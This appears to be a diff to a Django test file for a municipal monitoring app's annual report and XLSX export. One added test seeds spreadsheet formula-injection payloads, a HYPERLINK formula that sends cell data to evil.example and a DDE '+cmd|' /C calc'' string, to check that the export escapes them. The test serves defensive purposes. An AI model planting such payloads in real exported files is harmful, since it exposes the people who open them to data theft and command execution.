@@ -13,10 +13,12 @@ from openpyxl import load_workbook
 
 from aktionsplan.models import Raum
 from monitoring.jahresbericht import jahresbericht_erstellen, stichtag_fuer
+from monitoring.models import Messwert
 from projekte.models import Ampel, Projektskizze, Status
 from tests.factories import (
     ErkenntnisFactory,
     IndikatorFactory,
+    KommuneFactory,
     MeilensteinFactory,
     MesswertFactory,
     PlanFactory,
@@ -29,6 +31,10 @@ from tests.factories import (
 pytestmark = pytest.mark.django_db
 
 JAHR = 2025
+
+
+def _zeit(jahr, monat, tag, stunde=12):
+    return timezone.make_aware(datetime.datetime(jahr, monat, tag, stunde))
 
 
 def _sachstand(projekt, datum, status, ampel=Ampel.IM_PLAN, text="Bericht", fortschritt=30):
@@ -104,6 +110,8 @@ def daten():
         zieljahr=2030,
     )
     MesswertFactory(indikator=gross, raum=kommune, jahr=JAHR, wert=Decimal("40"))
+    # The values were entered during 2025 (the report reads them from the history).
+    Messwert.history.update(history_date=_zeit(2025, 6, 1))
     return {"a": a, "b": b, "c": c, "e": e, "wohnen": wohnen, "bildung": bildung}
 
 
@@ -289,10 +297,13 @@ def test_abfragen_bericht(lesen_client, django_assert_num_queries, anzahl):
         indikator = IndikatorFactory()
         indikator.themen.add(thema)
         MesswertFactory(indikator=indikator, raum=kommune, jahr=JAHR, wert=Decimal(i))
+    Messwert.history.update(history_date=_zeit(JAHR, 6, 1))
     # 1 session, 2 user, 3 groups; report: 4 measures with their state then and a year before,
     # 5 status counts per theme, 6 titles from the history, 7 themes, 8 milestones reached,
-    # 9 indicators, 10 their themes, 11 values of both years, 12 key findings, 13 their themes.
-    with django_assert_num_queries(13):
+    # 9 indicators, 10 their themes, 11 the own Kommune, 12 values of both years and the base
+    # years as of the Stichtag (history), 13 values without history, 14 key findings,
+    # 15 their themes.
+    with django_assert_num_queries(15):
         antwort = lesen_client.get(reverse("monitoring:bericht", kwargs={"jahr": JAHR}))
     assert antwort.status_code == 200
 
@@ -313,3 +324,145 @@ def test_pdf_laedt_nur_lokale_statische_dateien():
     ):
         with pytest.raises(ValueError, match="statische"):
             fetcher.fetch(url)
+
+
+# --- review fixes -------------------------------------------------------------------------------
+
+
+def _xlsx(client, jahr=JAHR):
+    antwort = client.get(reverse("monitoring:bericht_xlsx", kwargs={"jahr": jahr}))
+    assert antwort.status_code == 200
+    return load_workbook(io.BytesIO(antwort.content))
+
+
+def test_xlsx_schreibt_keine_formeln(lesen_client):
+    thema = ThemaFactory(name="=1+1")
+    plan = PlanFactory(kurzname="AP")
+    projekt = ProjektskizzeFactory(plan=plan, nummer=7, titel="@SUMME(A1)", hauptthema=thema)
+    Projektskizze.history.update(history_date=_zeit(JAHR, 1, 5))
+    _sachstand(
+        projekt,
+        datetime.date(JAHR, 3, 1),
+        Status.IN_UMSETZUNG,
+        text='=HYPERLINK("http://evil.example/?x="&A1;"Details")',
+        fortschritt=40,
+    )
+    MeilensteinFactory(
+        projekt=projekt, titel="+cmd|' /C calc'!A0", erledigt_am=datetime.date(JAHR, 4, 1)
+    )
+    ErkenntnisFactory(
+        titel="-2+3", text=" =1+2", datum=datetime.date(JAHR, 5, 1), ist_kernaussage=True
+    )
+    mappe = _xlsx(lesen_client)
+    for blatt in mappe.worksheets:
+        for zeile in blatt.iter_rows():
+            for zelle in zeile:
+                assert zelle.data_type != "f", (blatt.title, zelle.coordinate, zelle.value)
+    massnahme = next(mappe["Maßnahmen"].iter_rows(min_row=2, values_only=True))
+    assert massnahme[1] == "'@SUMME(A1)"
+    assert massnahme[2] == "'=1+1"
+    assert massnahme[5] == 40  # numbers stay numbers
+    assert massnahme[6] == datetime.datetime(JAHR, 3, 1)  # dates stay dates
+    assert massnahme[7] == '\'=HYPERLINK("http://evil.example/?x="&A1;"Details")'
+    meilenstein = next(mappe["Meilensteine"].iter_rows(min_row=2, values_only=True))
+    assert meilenstein[1] == "'+cmd|' /C calc'!A0"
+    kernaussage = next(mappe["Kernaussagen"].iter_rows(min_row=2, values_only=True))
+    assert kernaussage[1:3] == ("'-2+3", "' =1+2")
+    themen = next(mappe["Themen"].iter_rows(min_row=2, values_only=True))
+    assert themen[0] == "'=1+1"
+    assert themen[-1] == 1
+
+
+def test_meilensteine_im_xlsx_mit_dem_titel_zum_stichtag(lesen_client, daten):
+    zeilen = list(_xlsx(lesen_client)["Meilensteine"].iter_rows(min_row=2, values_only=True))
+    assert [z[:2] for z in zeilen] == [("AP 1: Rampen am Rathaus", "Bauantrag gestellt")]
+    assert "neu benannt" not in str(zeilen)
+    html = lesen_client.get(reverse("monitoring:bericht", kwargs={"jahr": JAHR})).content.decode()
+    zeile = re.search(r"Bauantrag gestellt</th>.*?</tr>", html, re.S).group(0)
+    assert "AP 1: Rampen am Rathaus" in zeile
+
+
+def test_werte_wie_sie_zum_stichtag_standen(lesen_client):
+    kommune = KommuneFactory(name="Stolberg", slug="stolberg")
+    korrigiert = IndikatorFactory(name="Korrigiert", ist_fallzahl=False)
+    spaet = IndikatorFactory(name="Erst 2026 erfasst", ist_fallzahl=False)
+    geloescht = IndikatorFactory(name="2026 gelöscht", ist_fallzahl=False)
+    ohne_historie = IndikatorFactory(name="Ohne Historie", ist_fallzahl=False)
+    wert = MesswertFactory(indikator=korrigiert, raum=kommune, jahr=JAHR, wert=Decimal(120))
+    weg = MesswertFactory(indikator=geloescht, raum=kommune, jahr=JAHR, wert=Decimal(77))
+    Messwert.history.update(history_date=_zeit(JAHR, 6, 1))
+    Messwert.objects.bulk_create(
+        [Messwert(indikator=ohne_historie, raum=kommune, jahr=JAHR, wert=Decimal(55))]
+    )
+    Messwert.objects.filter(indikator=ohne_historie).update(geaendert_am=_zeit(JAHR, 7, 1))
+    # After the report was given (2026): a correction, a late value, a deletion.
+    wert.wert = Decimal(130)
+    wert.save()
+    MesswertFactory(indikator=spaet, raum=kommune, jahr=JAHR, wert=Decimal(99))
+    weg.delete()
+
+    bericht = jahresbericht_erstellen(JAHR, heute=datetime.date(2026, 11, 24))
+    werte = {z.indikator.name: z.wert.text if z.wert else None for z in bericht.indikatoren}
+    assert werte == {
+        "Korrigiert": "120",
+        "Erst 2026 erfasst": None,
+        "2026 gelöscht": "77",
+        "Ohne Historie": "55",
+    }
+    # The report of the current year shows today's state.
+    heute = timezone.localdate()
+    MesswertFactory(indikator=korrigiert, raum=kommune, jahr=heute.year, wert=Decimal(140))
+    aktuell = jahresbericht_erstellen(heute.year)
+    assert next(z for z in aktuell.indikatoren if z.indikator == korrigiert).wert.text == "140"
+    zelle = next(
+        z
+        for z in _xlsx(lesen_client)["Indikatoren"].iter_rows(min_row=2, values_only=True)
+        if z[0] == "Korrigiert"
+    )
+    assert zelle[3] == 120
+
+
+def test_wert_der_eigenen_kommune(lesen_client, settings):
+    aachen = KommuneFactory(name="Aachen", slug="aachen")
+    stolberg = KommuneFactory(name="Stolberg", slug="stolberg")
+    indikator = IndikatorFactory(name="Haltestellen", ist_fallzahl=False)
+    MesswertFactory(indikator=indikator, raum=aachen, jahr=JAHR, wert=Decimal(900))
+    MesswertFactory(indikator=indikator, raum=stolberg, jahr=JAHR, wert=Decimal(40))
+    Messwert.history.update(history_date=_zeit(JAHR, 6, 1))
+    settings.KOMMUNE_SLUG = "stolberg"
+    bericht = jahresbericht_erstellen(JAHR, heute=datetime.date(2026, 11, 24))
+    assert bericht.indikatoren[0].wert.text == "40"
+    html = lesen_client.get(reverse("monitoring:bericht", kwargs={"jahr": JAHR})).content.decode()
+    zeile = re.search(r"Haltestellen</a>.*?</tr>", html, re.S).group(0)
+    assert ">40<" in zeile
+    assert "900" not in zeile
+
+
+def test_basiswert_sekundaer_zurueckgehalten(lesen_client):
+    kommune = KommuneFactory(name="Stolberg", slug="stolberg")
+    atsch = RaumFactory(name="Atsch", uebergeordnet=kommune)
+    indikator = IndikatorFactory(
+        name="Rollstuhlnutzende",
+        basiswert=Decimal(5),
+        basisjahr=2020,
+        zielwert=Decimal(20),
+        zieljahr=2030,
+        mindestfallzahl=3,
+    )
+    # Kommune 5 = Atsch 2 ("< 3"): the Kommune value is withheld ("•") in the 2020 group.
+    MesswertFactory(indikator=indikator, raum=kommune, jahr=2020, wert=Decimal(5))
+    MesswertFactory(indikator=indikator, raum=atsch, jahr=2020, wert=Decimal(2))
+    MesswertFactory(indikator=indikator, raum=kommune, jahr=JAHR, wert=Decimal(12))
+    Messwert.history.update(history_date=_zeit(JAHR, 6, 1))
+    bericht = jahresbericht_erstellen(JAHR, heute=datetime.date(2026, 11, 24))
+    zeile = bericht.indikatoren[0]
+    assert zeile.basiswert_text == "•"
+    assert zeile.fortschritt.prozent is None  # the percentage would give the baseline away
+    html = lesen_client.get(reverse("monitoring:bericht", kwargs={"jahr": JAHR})).content.decode()
+    tabellenzeile = re.search(r"Rollstuhlnutzende</a>.*?</tr>", html, re.S).group(0)
+    assert "•" in tabellenzeile
+    assert ">5<" not in tabellenzeile
+    assert ">12<" in tabellenzeile
+    xlsx = next(_xlsx(lesen_client)["Indikatoren"].iter_rows(min_row=2, values_only=True))
+    assert xlsx[4] == "•"
+    assert 5 not in xlsx
